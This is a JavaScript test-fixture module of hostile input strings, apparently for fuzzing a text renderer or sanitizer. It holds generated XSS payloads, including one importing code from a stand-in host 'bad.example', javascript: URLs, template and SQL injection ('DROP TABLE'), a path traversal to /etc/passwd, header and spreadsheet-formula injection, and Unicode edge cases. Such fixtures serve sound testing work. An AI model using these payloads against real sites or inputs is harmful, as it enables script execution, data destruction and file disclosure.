const names = ["script", "img", "svg", "iframe", "math", "style", "form", "details", "video", "object", "base", "link"];
const calls = ["alert(1)", "top.x=1", "import('//bad.example')"];
const attributes = ["onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "srcdoc", "formaction", "xlink:href"];

const quotes = ["", '"', "'", "`"];
const wrapped = names.flatMap((name) => [
  `<${name} ${attributes[name.length % attributes.length]}=${calls[0]}>`,
  `</${name}><${name}/src=x ${attributes[0]}=${quotes[name.length % 4]}${calls[1]}${quotes[name.length % 4]}//`,
  `<${name.toUpperCase()}\t${attributes[1]}\n=\n"${calls[2]}">x</${name}>`,
]);

/**
 * Texts that break something somewhere, of our own making: markup, addresses that run, letters that turn or join, and
 * numbers that are none.
 */
export const hostileTexts: readonly string[] = [
  ...wrapped,
  ...[
    "javascript:",
    "JAVA\tSCRIPT:",
    "\u0001javascript:",
    "data:text/html;base64,",
    "vbscript:",
    "feed:javascript:",
  ].map((scheme) => `${scheme}alert(1)`),
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "]]>'\"--><script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "$\u007b7*7} #{7*7} <%= 7*7 %>",
  "'; DROP TABLE contents; --",
  '{"type":"doc"',
  "__proto__",
  "constructor",
  "toString",
  "\u202e\u2066שלום\u2069 مرحبا",
  "Z̸a̴l̷g̶o̵ ɐuᴉʇɐɔoS",
  "👩‍👩‍👧‍👦🏳️‍🌈\ufe0f",
  "ﷺ ﷽ ㍿ ｱｲｳ",
  "𠮷野家 𪚥 㐂",
  "NaN Infinity -0 1e999 0x10",
  "&lt;script&gt; &amp;amp; &#60; &nbsp;",
  "%3Cscript%3E %00 %0d%0aSet-Cookie:x=1",
  "../../../etc/passwd",
  "=cmd|' /C calc'!A0",
  "<1>x</1> <2>y</1>",
];
